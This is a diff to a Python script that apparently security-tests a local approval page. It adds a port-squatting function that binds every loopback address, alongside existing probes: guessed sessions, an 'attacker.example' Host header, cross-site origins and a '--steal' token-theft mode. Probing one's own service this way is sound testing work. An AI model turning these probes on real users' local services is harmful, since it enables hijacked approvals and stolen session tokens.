@@ -70,6 +70,23 @@ def page():
     return None
 
 
+def squat(port):
+    """Listens beside the page, at every address where a browser might look for `localhost`; how many of them it got."""
+    got = []
+    for family, host in ((socket.AF_INET6, "::1"), (socket.AF_INET, "127.0.0.1"), (socket.AF_INET6, "::"), (socket.AF_INET, "0.0.0.0")):
+        for option in (None, socket.SO_REUSEADDR, socket.SO_REUSEPORT):
+            with socket.socket(family, socket.SOCK_STREAM) as wire:
+                if option is not None:
+                    wire.setsockopt(socket.SOL_SOCKET, option, 1)
+                try:
+                    wire.bind((host, port))
+                    wire.listen()
+                    got.append(host)
+                except OSError:
+                    pass
+    return got
+
+
 def main():
     port = page()
     tried("find the page", port)
@@ -85,6 +102,7 @@ def main():
     tried("without an origin", ask(port, "POST", "/approve", {"session": guess}))
     tried("another name for loopback", ask(port, "GET", "/", host=f"attacker.example:{port}"))
     tried("as if from another site", ask(port, "POST", "/approve", {"session": guess}, origin=ours, more="Sec-Fetch-Site: cross-site\r\n"))
+    tried("listen at the page's own port", f"{len(squat(port))} addresses")
     found = [(where, token) for where, token in links() if where == port]
     tried("read the link from the browser's words", f"{len(found)} found")
     if "--steal" not in sys.argv or not found:
@@ -104,4 +122,5 @@ def main():
     tried("approve another version", ask(port, "POST", "/approve", {**body, "core": core + 1, "pin": "x"}, origin=ours))
 
 
-main()
+if __name__ == "__main__":
+    main()
